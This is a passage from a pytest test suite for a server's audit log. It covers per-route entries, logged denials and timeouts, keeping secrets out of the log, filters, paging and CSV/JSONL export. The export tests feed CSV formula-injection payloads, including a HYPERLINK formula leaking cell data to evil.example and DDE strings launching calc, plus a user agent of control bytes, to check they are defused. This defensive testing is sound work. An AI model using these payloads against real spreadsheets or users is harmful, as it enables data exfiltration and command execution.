                                      json={"description": "walked"}),
                200, "team.update", lambda: admin.user_id, "team", tid)

    def team_delete_scenario():
        tid = new_team()
        return (lambda: admin.request("DELETE", f"/api/v1/teams/{tid}"), 204, "team.delete",
                lambda: admin.user_id, "team", tid)

    def team_member_add_scenario():
        tid = new_team()
        return (lambda: admin.request("PUT", f"/api/v1/teams/{tid}/members/{admin.user_id}"),
                200, "team.member_add", lambda: admin.user_id, "team", tid)

    def team_member_remove_scenario():
        tid = new_team()
        assert admin.request("PUT", f"/api/v1/teams/{tid}/members/{admin.user_id}").status_code == 200
        return (lambda: admin.request("DELETE", f"/api/v1/teams/{tid}/members/{admin.user_id}"),
                200, "team.member_remove", lambda: admin.user_id, "team", tid)

    scenarios = {
        ("POST", "/api/v1/roles"): role_create_scenario,
        ("PATCH", "/api/v1/roles/{name}"): role_update_scenario,
        ("DELETE", "/api/v1/roles/{name}"): role_delete_scenario,
        ("POST", "/api/v1/teams"): team_create_scenario,
        ("PATCH", "/api/v1/teams/{id}"): team_update_scenario,
        ("DELETE", "/api/v1/teams/{id}"): team_delete_scenario,
        ("PUT", "/api/v1/teams/{id}/members/{userId}"): team_member_add_scenario,
        ("DELETE", "/api/v1/teams/{id}/members/{userId}"): team_member_remove_scenario,
        ("POST", "/api/v1/auth/login/mfa"): mfa_login_scenario,
        ("POST", "/api/v1/me/mfa/totp"): mfa_enrol_scenario,
        ("POST", "/api/v1/me/mfa/totp/confirm"): mfa_confirm_scenario,
        ("POST", "/api/v1/me/mfa/disable"): mfa_disable_scenario,
        ("POST", "/api/v1/me/mfa/recovery-codes"): mfa_recovery_scenario,
        ("DELETE", "/api/v1/users/{id}/mfa"): mfa_reset_scenario,
        ("POST", "/api/v1/objects/{object}/{id}/attachments"): attachment_create_scenario,
        ("DELETE", "/api/v1/objects/{object}/{id}/attachments/{aid}"): attachment_delete_scenario,
        ("POST", "/api/v1/objects/{object}"): record_create_scenario,
        ("PATCH", "/api/v1/objects/{object}/{id}"): record_update_scenario,
        ("DELETE", "/api/v1/objects/{object}/{id}"): record_archive_scenario,
        ("POST", "/api/v1/objects/{object}/{id}/restore"): record_restore_scenario,
        ("POST", "/api/v1/objects/{object}/{id}/purge"): record_purge_scenario,
        ("POST", "/api/v1/objects/{object}/batch/create"): batch_create_scenario,
        ("POST", "/api/v1/objects/{object}/batch/update"): batch_update_scenario,
        ("POST", "/api/v1/objects/{object}/batch/archive"): batch_archive_scenario,
        ("POST", "/api/v1/objects/{object}/batch/read"): batch_read_scenario,
        ("POST", "/api/v1/objects/{object}/search"): search_scenario,
        ("POST", "/f/{tenant}/{form}"): form_post_scenario,
        ("POST", "/api/v1/objects/{object}/{id}/activities"): activity_scenario,
        ("PUT", "/api/v1/objects/{object}/{id}/associations/{to}/{toId}"): assoc_put_scenario,
        ("DELETE", "/api/v1/objects/{object}/{id}/associations/{to}/{toId}"): assoc_delete_scenario,
        ("POST", "/api/v1/properties/{object}"): prop_create_scenario,
        ("PATCH", "/api/v1/properties/{object}/{name}"): prop_update_scenario,
        ("DELETE", "/api/v1/properties/{object}/{name}"): prop_delete_scenario,
        ("POST", "/api/v1/schemas"): schema_create_scenario,
        ("POST", "/api/v1/schemas/{object}/indexes"): index_create_scenario,
        ("DELETE", "/api/v1/schemas/{object}/indexes/{id}"): index_delete_scenario,
        ("POST", "/api/v1/lists"): list_create_scenario,
        ("PATCH", "/api/v1/lists/{id}"): list_update_scenario,
        ("DELETE", "/api/v1/lists/{id}"): list_delete_scenario,
        ("POST", "/api/v1/lists/{id}/members"): members_add_scenario,
        ("POST", "/api/v1/lists/{id}/members/remove"): members_remove_scenario,
        ("POST", "/api/v1/api-keys"): apikeys_create_scenario,
        ("DELETE", "/api/v1/api-keys/{id}"): apikeys_delete_scenario,
        ("POST", "/api/v1/users/{id}/unlock"): users_unlock_scenario,
        ("PATCH", "/api/v1/settings/security"): settings_patch_scenario,
        ("POST", "/api/v1/auth/login"): login_scenario,
        ("POST", "/api/v1/auth/logout"): logout_scenario,
        ("POST", "/api/v1/auth/password"): password_scenario,
        ("POST", "/api/v1/users"): users_create_scenario,
        ("PATCH", "/api/v1/users/{id}"): users_update_scenario,
        ("DELETE", "/api/v1/users/{id}"): users_delete_scenario,
        ("DELETE", "/api/v1/users/{id}/sessions"): user_sessions_delete_scenario,
        ("DELETE", "/api/v1/sessions/{id}"): sessions_delete_scenario,
    }
    routes = openapi_unsafe_routes()
    assert ("POST", "/api/v1/auth/login") in routes, routes
    missing = [r for r in routes if r not in scenarios]
    assert not missing, f"state-changing routes without an audit scenario here: {missing} " \
                        f"(add one to this test)"
    problems = []
    for route in routes:
        act, status, action, actor_id, ttype, tid = scenarios[route]()
        before = head_seq(observer)
        r = act()
        assert r.status_code == status, f"{route}: {r.status_code} {r.text[:300]}"
        new = entries_since(observer, before)
        if action is None:
            # a read sent with POST (search, batch read), or a consumer's form
            # request, writes no entry
            if new:
                problems.append(f"{route}: a read wrote " +
                                ", ".join(f"{e['action']}/{e['outcome']}" for e in new))
            continue
        if len(new) != 1:
            problems.append(f"{route}: {len(new)} new entries: " +
                            ", ".join(f"{e['action']}/{e['outcome']}" for e in new))
            continue
        e = new[0]
        want_tid = tid() if callable(tid) else tid
        got = (e["action"], e["outcome"], e["requestId"], e["actor"]["type"],
               e["actor"].get("id"), e["target"]["type"], e["target"]["id"])
        want = (action, "success", rid(r), "user", actor_id(), ttype, want_tid)
        if got != want:
            problems.append(f"{route}: got {got}, expected {want}")
    assert not problems, "\n".join(problems)


# ---------------------------------------------------------------- 3. denials


def assert_denied_entry(observer, before, r, code, method_path, actor_id, role):
    k.assert_error(r, r.status_code, code)
    new = entries_since(observer, before)
    e = only(with_rid(new, rid(r)), f"for the refused {method_path}")
    check_entry(e)
    assert len(new) == 1, f"a refusal wrote more than one entry: {new}"
    assert e["action"] == "access.denied", e
    assert e["outcome"] == "denied" and e["errorCode"] == code, e
    assert e["target"]["type"] == "route", e
    assert e["target"]["id"] == method_path, e
    assert e["actor"]["type"] == "user" and e["actor"].get("id") == actor_id, e
    assert e["actor"]["role"] == role, e
    assert e["ip"] == "127.0.0.1", e
    return e


def test_member_forbidden_is_logged(world, observer):
    m = world.login("acme_member")
    for path in ("/api/v1/users", AUDIT, EXPORT):
        before = head_seq(observer)
        r = m.get(path)
        k.assert_error(r, 403, "forbidden")
        assert_denied_entry(observer, before, r, "forbidden", f"GET {path}", m.user_id, "member")


def test_member_forbidden_on_pattern_route(world, observer):
    m = world.login("acme_member")
    before = head_seq(observer)
    r = m.get(f"/api/v1/users/{m.user_id}")
    k.assert_error(r, 403, "forbidden")
    new = entries_since(observer, before)
    e = only(with_rid(new, rid(r)))
    assert e["action"] == "access.denied" and e["errorCode"] == "forbidden", e
    assert e["target"]["type"] == "route", e
    # the route, by its pattern or its path
    assert e["target"]["id"] in ("GET /api/v1/users/{id}", f"GET /api/v1/users/{m.user_id}"), e


def test_csrf_refusal_is_logged(world, observer):
    c = world.login("acme_admin")
    before = head_seq(observer)
    r = c.request("POST", "/api/v1/auth/logout", csrf=None)
    k.assert_error(r, 403, "csrf_token_invalid")
    assert_denied_entry(observer, before, r, "csrf_token_invalid", "POST /api/v1/auth/logout",
                        c.user_id, "super_admin")
    before = head_seq(observer)
    r = c.request("POST", "/api/v1/auth/logout", csrf="not-the-token")
    k.assert_error(r, 403, "csrf_token_invalid")
    assert_denied_entry(observer, before, r, "csrf_token_invalid", "POST /api/v1/auth/logout",
                        c.user_id, "super_admin")
    assert c.me().status_code == 200


def test_pending_password_change_refusal_is_logged(world, observer):
    acct = world.new_user("acme", role="admin", prefix="pending")
    c = world.server.login(acct.tenant, acct.email, acct.password)
    before = head_seq(observer)
    r = c.get("/api/v1/users")
    k.assert_error(r, 403, "password_change_required")
    assert_denied_entry(observer, before, r, "password_change_required", "GET /api/v1/users",
                        c.user_id, "admin")


@pytest.mark.parametrize("case", ["patch_super", "delete_super", "create_super", "kick_super"])
def test_handler_refusal_is_logged(world, observer, case):
    """An admin (not super) refused by a rule inside the handler (only a
    super admin manages super admins) is an identified caller refused too."""
    acct = world.activate(world.new_user("acme", role="admin", prefix="notsuper"))
    adm = world.server.login(acct.tenant, acct.email, acct.password)
    sup = world.login("acme_admin")
    if case == "patch_super":
        r = adm.request("PATCH", f"/api/v1/users/{sup.user_id}", json={"displayName": "Owned"})
        route = "PATCH /api/v1/users/{id}"
    elif case == "delete_super":
        r = adm.request("DELETE", f"/api/v1/users/{sup.user_id}")
        route = "DELETE /api/v1/users/{id}"
    elif case == "create_super":
        r = adm.post("/api/v1/users", json={"email": f"x-{secrets.token_hex(3)}@acme.example",
                                            "role": "super_admin"})
        route = "POST /api/v1/users"
    else:
        r = adm.request("DELETE", f"/api/v1/users/{sup.user_id}/sessions")
        route = "DELETE /api/v1/users/{id}/sessions"
    k.assert_error(r, 403, "forbidden")
    new = audit_page(observer, [("action", "access.denied"), ("limit", "20")])["results"]
    e = only(with_rid(new, rid(r)), f"for {route}")
    assert e["outcome"] == "denied" and e["errorCode"] == "forbidden", e
    assert e["actor"].get("id") == adm.user_id and e["actor"]["role"] == "admin", e
    assert (e["target"]["type"], e["target"]["id"]) == ("route", route), \
        f"access.denied for {route} does not name the route: target {e['target']}"


def test_suspended_tenant_is_logged(world):
    world.cli.tenant_create("audsusp", "Audit Suspended")
    boss = world.activate(world.new_user("audsusp", role="super_admin", prefix="boss"))
    s = world.server.login(boss.tenant, boss.email, boss.password)
    r0 = world.server.login_raw(boss.tenant, boss.email, boss.password)
    boss_id = r0.json()["user"]["id"]
    world.cli.tenant_suspend("audsusp")
    try:
        r_me = s.me()
        assert r_me.status_code in (401, 403), r_me.text
        k.assert_error(r_me, r_me.status_code, "tenant_suspended")
        r_login = world.server.login_raw(boss.tenant, boss.email, boss.password)
        k.assert_error(r_login, 403, "tenant_suspended")
        r_wrong = world.server.login_raw(boss.tenant, boss.email, boss.password + "x")
        k.assert_error(r_wrong, 401, "invalid_credentials")
    finally:
        world.cli.tenant_resume("audsusp")
    reader = world.server.login(boss.tenant, boss.email, boss.password)
    entries = audit_all(reader)
    e = only(with_rid(entries, rid(r_me)), "for the suspended session's request")
    assert (e["action"], e["outcome"], e["errorCode"]) == ("access.denied", "denied",
                                                           "tenant_suspended"), e
    assert (e["target"]["type"], e["target"]["id"]) == ("route", "GET /api/v1/me"), e
    assert e["actor"]["type"] == "user" and e["actor"].get("id") == boss_id, e
    e = only(with_rid(entries, rid(r_login)), "for the login on a suspended tenant")
    assert (e["action"], e["outcome"], e["errorCode"]) == ("auth.login", "denied",
                                                           "tenant_suspended"), e
    assert e["actor"] == {"type": "user", "id": boss_id, "email": boss.email,
                          "role": "super_admin"}, e
    e = only(with_rid(entries, rid(r_wrong)))
    assert (e["action"], e["outcome"], e["errorCode"]) == ("auth.login", "denied",
                                                           "invalid_credentials"), e
    # the operator's suspend and resume are in the log too, in order
    ops = [e["action"] for e in entries if e["actor"]["type"] == "operator"]
    assert ops[:2] == ["tenant.resume", "tenant.suspend"], ops


def test_password_change_with_wrong_current_is_logged(world, observer):
    acct = world.activate(world.new_user("acme", role="member", prefix="pwwrong"))
    c = world.server.login(acct.tenant, acct.email, acct.password)
    before = head_seq(observer)
    r = c.change_password("not-the-current-password", k.strong_password())
    k.assert_error(r, 422, "validation_failed")
    e = only(entries_since(observer, before))
    assert e["requestId"] == rid(r)
    assert (e["action"], e["outcome"], e["errorCode"]) == ("auth.password_change", "failed",
                                                           "validation_failed"), e
    assert (e["target"]["type"], e["target"]["id"]) == ("user", c.user_id), e
    assert e["actor"].get("id") == c.user_id and e["actor"]["role"] == "member", e


# ---------------------------------------------------------------- 4. timeouts


def test_session_timeouts_are_logged(binaries):
    tmp = k.new_tempdir("kura-e2e-audit-clock-")
    clock_file = tmp / "clock"
    clock_file.write_text("0\n")
    w = k.make_world(env={"KURA_TEST_CLOCK_OFFSET_FILE": str(clock_file),
                          "KURA_SESSION_ABSOLUTE_TIMEOUT_S": "3600"})
    try:
        clock = Clock(w.server, clock_file)
        idle = w.login("acme_member")
        busy = w.login("acme_member")
        idle_sid, busy_sid = session_short_id(idle), session_short_id(busy)
        ua = "kura-audit-test (timeouts)"
        clock.set(1700)
        assert busy.me().status_code == 200
        clock.set(3400)
        assert busy.me().status_code == 200
        r_idle = idle.get("/api/v1/me", headers={"User-Agent": ua})
        k.assert_error(r_idle, 401, "unauthenticated")
        r_idle2 = idle.me()
        k.assert_error(r_idle2, 401, "unauthenticated")
        clock.set(3700)
        r_exp = busy.me()
        k.assert_error(r_exp, 401, "unauthenticated")

        obs = w.login("acme_admin")
        entries = audit_all(obs, [("targetType", "session")])
        e = only(with_rid(entries, rid(r_idle)), "for the idle session's request")
        assert e["action"] == "session.idle_timeout", e
        assert e["actor"]["type"] == "system" and not e["actor"].get("id"), e
        assert (e["target"]["type"], e["target"]["id"]) == ("session", idle_sid), e
        assert e["outcome"] == "success" and e["ip"] == "127.0.0.1" and e["userAgent"] == ua, e
        assert not with_rid(entries, rid(r_idle2)), "a second request on the ended session logged again"
        assert len([x for x in entries if x["action"] == "session.idle_timeout"]) == 1, entries

        e = only(with_rid(entries, rid(r_exp)), "for the expired session's request")
        assert e["action"] == "session.expired", e
        assert e["actor"]["type"] == "system" and not e["actor"].get("id"), e
        assert (e["target"]["type"], e["target"]["id"]) == ("session", busy_sid), e
        assert [x["action"] for x in audit_all(obs, [("action", "session.*")])] == \
            ["session.expired", "session.idle_timeout"]
    finally:
        k.destroy_world(w)
        k.remove_tempdir(tmp)


# ---------------------------------------------------------------- 5. secrets


def test_no_secret_in_any_entry(world, observer):
    admin = world.login("acme_admin")
    acct = world.new_user("acme", role="member", prefix="secret")
    secrets_seen = {acct.password}
    sessions = []

    c = world.server.login(acct.tenant, acct.email, acct.password)
    sessions.append(c)
    p1 = "first correct horse " + secrets.token_hex(6)
    wrong_current = "wrong current " + secrets.token_hex(6)
    assert c.change_password(wrong_current, p1).status_code == 422
    assert c.change_password(acct.password, p1).status_code == 204
    secrets_seen |= {p1, wrong_current}
    for _ in range(2):
        wrong = "wrong guess " + secrets.token_hex(6)
        secrets_seen.add(wrong)
        k.assert_error(world.server.login_raw(acct.tenant, acct.email, wrong), 401)
        k.assert_error(world.server.login_raw(acct.tenant, "ghost@acme.example", wrong), 401)
    c2 = world.server.login(acct.tenant, acct.email, p1)
    sessions.append(c2)
    p2 = "second battery staple " + secrets.token_hex(6)
    assert c2.change_password(p1, p2).status_code == 204
    secrets_seen.add(p2)
    # a CSRF refusal with the right token of another session
    other = world.server.login(acct.tenant, acct.email, p2)
    sessions.append(other)
    assert c2.request("POST", "/api/v1/auth/logout", csrf=other.csrf).status_code == 403
    # an invitation through the API answers a one-time password
    r = admin.post("/api/v1/users", json={"email": f"invitee-{secrets.token_hex(3)}@acme.example",
                                          "role": "member"})
    assert r.status_code == 201, r.text
    secrets_seen.add(r.json()["oneTimePassword"])
    assert other.logout().status_code == 204
    sessions.append(admin)
    # an API key's token, where the server has API keys: used, and refused
    r = admin.post("/api/v1/api-keys", json={"name": "secret-scan", "scopes": ["users.read"]})
    if r.status_code != 404:
        assert r.status_code == 201, r.text
        token = r.json()["token"]
        secrets_seen |= {token, token.split("_", 2)[2]}   # kura_<tenant>_<secret>
        bearer = {"Authorization": f"Bearer {token}"}
        assert world.server.get("/api/v1/users", headers=bearer).status_code == 200
        assert world.server.get(AUDIT, headers=bearer).status_code == 403
        wrong = {"Authorization": f"Bearer {token[:-2]}xy"}
        assert world.server.get("/api/v1/users", headers=wrong).status_code == 401
        secrets_seen.add(token[:-2] + "xy")

    raw_secrets = set()
    for s in sessions:
        secret = s.cookie.split(".", 1)[1]
        secrets_seen |= {s.cookie, secret, s.csrf}
        raw_secrets.add(base64.urlsafe_b64decode(secret + "=" * (-len(secret) % 4)))
    secrets_seen = {x for x in secrets_seen if x}

    texts = {
        "list": json.dumps(audit_all(observer), ensure_ascii=False),
        "jsonl": export(observer, fmt="jsonl").content.decode(),
        "csv": export(observer, fmt="csv").content.decode(),
    }
    for where, text in texts.items():
        for s in secrets_seen:
            assert s not in text, f"a secret ({s[:6]}...) appears in the audit {where}"
        assert "$argon2" not in text
    blob = b""
    for row in db_audit_rows(world.data_dir, "acme"):
        for v in row.values():
            blob += (v if isinstance(v, bytes) else str(v).encode()) + b"\x00"
    for s in secrets_seen:
        assert s.encode() not in blob, f"a secret ({s[:6]}...) is stored in audit_log"
    for s in raw_secrets:
        assert s not in blob, "a session secret's raw bytes are stored in audit_log"
    assert b"$argon2" not in blob
    # nor anywhere in the tenant's database files
    for f in tenant_db(world.data_dir, "acme").parent.glob("tenant.db*"):
        data = f.read_bytes()
        for s in secrets_seen:
            assert s.encode() not in data, f"a secret ({s[:6]}...) is in {f.name}"


# ---------------------------------------------------------------- 6. filters, paging, validation


@pytest.fixture(scope="module")
def filter_world(world):
    """Known entries for the filter tests: a user with logins, a failed
    password change, a denial and a logout; a failed login from nobody."""
    acct = world.activate(world.new_user("acme", role="member", prefix="filt"))
    c = world.server.login(acct.tenant, acct.email, acct.password)
    assert c.get("/api/v1/users").status_code == 403
    assert c.change_password("nope-nope-nope", k.strong_password()).status_code == 422
    world.server.login_raw("acme", "filter-ghost@acme.example", "nope-nope-nope")
    c2 = world.server.login(acct.tenant, acct.email, acct.password)
    assert c2.logout().status_code == 204
    return acct, c


def test_filters(world, observer, filter_world):
    acct, c = filter_world
    everything = audit_all(observer)
    assert len(everything) >= 20

    def check(params, pred, what):
        want = [e for e in everything if pred(e)]
        assert want, f"{what}: the test needs matching entries"
        assert len(want) < len(everything), f"{what}: the test needs non-matching entries"
        got = audit_all(observer, params)
        assert [e["seq"] for e in got] == [e["seq"] for e in want], \
            f"{what} {params}: got {len(got)} entries, expected {len(want)}"
        assert got == want

    uid = c.user_id
    check([("actorId", uid)], lambda e: e["actor"].get("id") == uid, "actorId")
    check([("actorEmail", acct.email)], lambda e: e["actor"]["email"] == acct.email, "actorEmail")
    check([("actorEmail", acct.email.upper())], lambda e: e["actor"]["email"] == acct.email,
          "actorEmail, ASCII case-insensitive")
    check([("actorEmail", "filter-ghost@acme.example")],
          lambda e: e["actor"]["email"] == "filter-ghost@acme.example", "actorEmail of an anonymous")
    check([("action", "auth.login")], lambda e: e["action"] == "auth.login", "action exact")
    check([("action", "auth.*")], lambda e: e["action"].startswith("auth."), "action prefix")
    check([("action", "auth.log*")], lambda e: e["action"].startswith("auth.log"), "prefix auth.log*")
    check([("targetType", "session")], lambda e: e["target"]["type"] == "session", "targetType")
    sid = next(e["target"]["id"] for e in everything
               if e["action"] == "auth.login" and e["actor"].get("id") == uid)
    check([("targetId", sid)], lambda e: e["target"]["id"] == sid, "targetId")
    check([("targetType", "route"), ("targetId", "GET /api/v1/users")],
          lambda e: (e["target"]["type"], e["target"]["id"]) == ("route", "GET /api/v1/users"),
          "targetType+targetId")
    for o in OUTCOMES:
        if any(e["outcome"] == o for e in everything):
            check([("outcome", o)], lambda e, o=o: e["outcome"] == o, f"outcome={o}")
    check([("ip", "127.0.0.1")], lambda e: e["ip"] == "127.0.0.1", "ip")
    check([("ip", "local")], lambda e: e["ip"] == "local", "ip of operator entries")
    check([("actorId", uid), ("action", "auth.*"), ("outcome", "success")],
          lambda e: e["actor"].get("id") == uid and e["action"].startswith("auth.")
          and e["outcome"] == "success", "combined")
    # matching nothing
    for params in ([("action", "auth.log")], [("action", "auth")], [("action", "AUTH.*")],
                   [("action", "auth_login")], [("action", "auth%")], [("action", "%*")],
                   [("action", "_uth.*")], [("targetId", "nope")],
                   [("actorId", "999999999999")], [("ip", "10.0.0.1")],
                   [("actorEmail", "nobody-at-all@acme.example")]):
        assert audit_all(observer, params) == [], params


def test_time_filters(world, observer, filter_world):
    everything = audit_all(observer)
    times = sorted({parse_time_us(e["time"]) for e in everything})
    assert len(times) >= 6
    lo, hi = times[len(times) // 3], times[2 * len(times) // 3]

    def seqs(entries):
        return [e["seq"] for e in entries]

    want_from = [e for e in everything if parse_time_us(e["time"]) >= lo]
    want_to = [e for e in everything if parse_time_us(e["time"]) < hi]
    want_both = [e for e in everything if lo <= parse_time_us(e["time"]) < hi]
    assert seqs(audit_all(observer, [("from", fmt_time_us(lo))])) == seqs(want_from), "from (inclusive)"
    assert seqs(audit_all(observer, [("to", fmt_time_us(hi))])) == seqs(want_to), "to (exclusive)"
    assert seqs(audit_all(observer, [("from", fmt_time_us(lo)), ("to", fmt_time_us(hi))])) == \
        seqs(want_both)
    # the same instants written with an offset
    assert seqs(audit_all(observer, [("from", fmt_time_us(lo, 330)),
                                     ("to", fmt_time_us(hi, -420))])) == seqs(want_both), \
        "a time with a UTC offset is not the same instant"
    # the time shown by the viewer, as given back, selects that entry
    e = everything[len(everything) // 2]
    got = audit_all(observer, [("from", e["time"]), ("to", fmt_time_us(parse_time_us(e["time"]) + 1))])
    assert e["seq"] in seqs(got)
    assert audit_all(observer, [("from", "2099-01-01T00:00:00Z")]) == []
    assert audit_all(observer, [("to", "2000-01-01T00:00:00Z")]) == []


def test_paging(world, observer, filter_world):
    acct, c = filter_world
    # enough entries of one actor, cheaply: refusals
    for _ in range(6):
        assert c.get("/api/v1/users").status_code == 403
    params = [("actorId", c.user_id)]
    unpaged = audit_page(observer, params + [("limit", "100")])
    assert "paging" not in unpaged, "a page holding everything has a next page"
    full = unpaged["results"]
    assert len(full) >= 7, len(full)

    pages, after = [], None
    while True:
        body = audit_page(observer, params + [("limit", "2")] + ([("after", after)] if after else []))
        pages.append(body["results"])
        assert 1 <= len(body["results"]) <= 2, body
        nxt = body.get("paging", {}).get("next", {}).get("after")
        if nxt is None:
            break
        assert len(body["results"]) == 2, "a short page with a next page"
        assert nxt == body["results"][-1]["seq"], "the cursor is not the page's last seq"
        after = nxt
    walked = [e for p in pages for e in p]
    seqs = [int(e["seq"]) for e in walked]
    assert seqs == sorted(seqs, reverse=True) and len(set(seqs)) == len(seqs), seqs
    assert walked == full, "the pages together are not the unpaged list"
    assert len(pages) == (len(full) + 1) // 2

    # exact fit: limit = n has no next page; limit = n - 1 has one, then 1 entry
    n = len(full)
    assert "paging" not in audit_page(observer, params + [("limit", str(n))])
    b = audit_page(observer, params + [("limit", str(n - 1))])
    assert b["paging"]["next"]["after"] == full[n - 2]["seq"]
    b2 = audit_page(observer, params + [("limit", str(n - 1)), ("after", b["paging"]["next"]["after"])])
    assert b2["results"] == full[-1:] and "paging" not in b2

    # a new entry written while paging does not appear in, or shift, later pages
    first = audit_page(observer, params + [("limit", "2")])
    assert first["results"] == full[:2]
    r = c.get("/api/v1/users")
    assert r.status_code == 403
    rest, after = [], first["paging"]["next"]["after"]
    while after:
        body = audit_page(observer, params + [("limit", "2"), ("after", after)])
        rest += body["results"]
        after = body.get("paging", {}).get("next", {}).get("after")
    assert first["results"] + rest == full
    assert not with_rid(rest, rid(r))
    assert with_rid(audit_page(observer, params + [("limit", "1")])["results"], rid(r))


def test_default_limit(world, observer):
    m = world.login("acme_member")
    for _ in range(max(55, 101 - head_seq(observer))):
        assert m.get("/api/v1/users").status_code == 403
    body = audit_page(observer)
    assert len(body["results"]) == 50, len(body["results"])
    assert body["paging"]["next"]["after"] == body["results"][-1]["seq"]
    assert len(audit_page(observer, [("limit", "100")])["results"]) == 100
    assert len(audit_page(observer, [("limit", "1")])["results"]) == 1


BAD_QUERIES = [
    ([("bogus", "1")], "bogus"),
    ([("Action", "auth.login")], "Action"),
    ([("action", "auth.login"), ("action", "auth.logout")], "action"),
    ([("outcome", "success"), ("outcome", "success")], "outcome"),
    ([("from", "yesterday")], "from"),
    ([("from", "2026-11-23")], "from"),
    ([("to", "2026-13-01T00:00:00Z")], "to"),
    ([("to", "2026-11-23T25:00:00Z")], "to"),
    ([("outcome", "ok")], "outcome"),
    ([("outcome", "SUCCESS")], "outcome"),
    ([("actorId", "abc")], "actorId"),
    ([("after", "x")], "after"),
]
LIST_ONLY_BAD = [
    ([("limit", "0")], "limit"),
    ([("limit", "101")], "limit"),
    ([("limit", "ten")], "limit"),
    ([("limit", "-1")], "limit"),
    ([("limit", "1.5")], "limit"),
    ([("limit", "5"), ("limit", "5")], "limit"),
]


@pytest.mark.parametrize("params,field", BAD_QUERIES + LIST_ONLY_BAD)
def test_list_validation(world, observer, params, field):
    r = observer.get(AUDIT, params=params)
    assert field in validation_fields(r), r.text


@pytest.mark.parametrize("params,field", BAD_QUERIES + [
    ([("limit", "10")], "limit"),
    ([("format", "xml")], "format"),
    ([("format", "JSONL")], "format"),
    ([("format", "")], "format"),
])
def test_export_validation(world, observer, params, field):
    before = head_seq(observer)
    r = observer.get(EXPORT, params=params)
    assert field in validation_fields(r), r.text
    assert head_seq(observer) == before, "a refused export was recorded as an export"


# ---------------------------------------------------------------- 7. export


def test_export_jsonl_equals_list(world, observer):
    r = export(observer, fmt="jsonl")
    assert "attachment" in r.headers.get("Content-Disposition", ""), r.headers
    got = jsonl_entries(r)
    listed = audit_all(observer)
    assert got == listed, "the JSON Lines export differs from the list"
    e = only(with_rid(listed, rid(r)), "for the export")
    assert (e["action"], e["outcome"]) == ("audit.export", "success"), e
    assert e["actor"].get("id") == observer.user_id
    # the default format is JSON Lines
    r2 = export(observer)
    assert jsonl_entries(r2) == audit_all(observer)


def test_export_csv_equals_list(world, observer):
    r = export(observer, fmt="csv")
    assert "attachment" in r.headers.get("Content-Disposition", ""), r.headers
    rows = csv_rows(r)
    listed = audit_all(observer)
    assert len(rows) == len(listed)
    for row, e in zip(rows, listed):
        assert row == [csv_cell(v) for v in csv_row_of(e)], (row, e)
    assert only(with_rid(listed, rid(r)))["action"] == "audit.export"


def test_export_each_adds_one_entry(world, observer):
    for fmt in ("jsonl", "csv"):
        before = head_seq(observer)
        r = export(observer, [("action", "nothing.matches")], fmt=fmt)
        new = entries_since(observer, before)
        e = only(new, f"for one {fmt} export")
        assert e["requestId"] == rid(r) and e["action"] == "audit.export", e
        body = r.content.decode()
        assert body == ("" if fmt == "jsonl" else ",".join(CSV_HEADER) + "\r\n"), body


def test_export_defuses_formulas(world, observer):
    uas = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
           "@SUM(A1:A2)", 'plain "quoted", with commas']
    rids = {}
    for ua in uas:
        r = world.server.login_raw("acme", "formula-ghost@acme.example", "not-a-password-1",
                                   headers={"User-Agent": ua})
        k.assert_error(r, 401, "invalid_credentials")
        rids[rid(r)] = ua
    # what was typed as the e-mail of a failed login is recorded too
    emails = {}
    for typed in ['=HYPERLINK("http://evil.example/","x")@evil.example', "+1+2@evil.example",
                  "-1+1@evil.example", "@SUM(1+1)*cmd|' /C calc'!A0"]:
        r = world.server.login_raw("acme", typed, "not-a-password-1")
        if r.status_code == 401:
            emails[rid(r)] = typed
    assert emails, "no formula-like e-mail got past the login validation"
    rows = csv_rows(export(observer, [("actorEmail", "formula-ghost@acme.example")], fmt="csv"))
    by_rid = {row[CSV_HEADER.index("request_id")]: row for row in rows}
    for request_id, ua in rids.items():
        cell = by_rid[request_id][CSV_HEADER.index("user_agent")]
        assert cell == csv_cell(ua), f"user agent {ua!r} exported as {cell!r}"
    rows = csv_rows(export(observer, [("action", "auth.login"), ("outcome", "denied")], fmt="csv"))
    by_rid = {row[CSV_HEADER.index("request_id")]: row for row in rows}
    for request_id, typed in emails.items():
        cell = by_rid[request_id][CSV_HEADER.index("actor_email")]
        assert cell == "'" + typed, f"typed e-mail {typed!r} exported as {cell!r}"
    # JSON Lines and the list keep the value as it was
    lines = jsonl_entries(export(observer, [("actorEmail", "formula-ghost@acme.example")]))
    assert {e["requestId"]: e["userAgent"] for e in lines if e["requestId"] in rids} == rids


def test_export_filters_apply(world, observer, filter_world):
    acct, c = filter_world
    for params in ([("action", "auth.login")], [("actorId", c.user_id)], [("outcome", "denied")],
                   [("action", "auth.*"), ("outcome", "success")], [("targetType", "route")]):
        listed = audit_all(observer, params)
        assert listed, params
        got = jsonl_entries(export(observer, params, fmt="jsonl"))
        assert got == listed, params
        rows = csv_rows(export(observer, params, fmt="csv"))
        assert rows == [[csv_cell(v) for v in csv_row_of(e)] for e in listed], params
    # the cursor too
    full = audit_all(observer)
    mid = full[len(full) // 2]["seq"]
    got = jsonl_entries(export(observer, [("after", mid)]))
    assert got == [e for e in full if int(e["seq"]) < int(mid)]


def test_export_forbidden_for_member(world, observer):
    m = world.login("acme_member")
    for fmt in ("jsonl", "csv"):
        before = head_seq(observer)
        r = m.get(EXPORT, params={"format": fmt})
        k.assert_error(r, 403, "forbidden")
        assert "seq" not in r.text
        e = only(entries_since(observer, before))
        assert (e["action"], e["target"]["id"]) == ("access.denied", f"GET {EXPORT}"), e


def test_large_export_streams_every_entry(world, observer):
    """More entries than one export batch: nothing lost or doubled at the seams."""
    m = world.login("acme_member")
    n0 = len(audit_all(observer))
    for _ in range(max(0, 1060 - n0)):
        assert m.get("/api/v1/users").status_code == 403
    listed = audit_all(observer)
    r = export(observer, fmt="jsonl")
    got = jsonl_entries(r)
    assert len(got) == len(listed) + 1 and got[1:] == listed
    rows = csv_rows(export(observer, fmt="csv"))
    seqs = [int(row[0]) for row in rows]
    assert seqs == list(range(seqs[0], 0, -1)), "CSV export skipped or repeated entries"


def test_hostile_user_agent(world, observer):
    """Control characters and invalid UTF-8 never reach an entry."""
    body = json.dumps({"tenant": "acme", "email": "hostile-ua@acme.example",
                       "password": "not-a-password-1"}).encode()
    ua = b"evil\x1b[2J\x07 \xff\xfe mid\x7f \xc2\x9b end"
    req = k.http_request_bytes("POST", "/api/v1/auth/login",
                               [("Content-Type", "application/json"), ("User-Agent", "X")], body)
    req = req.replace(b"User-Agent: X", b"User-Agent: " + ua)
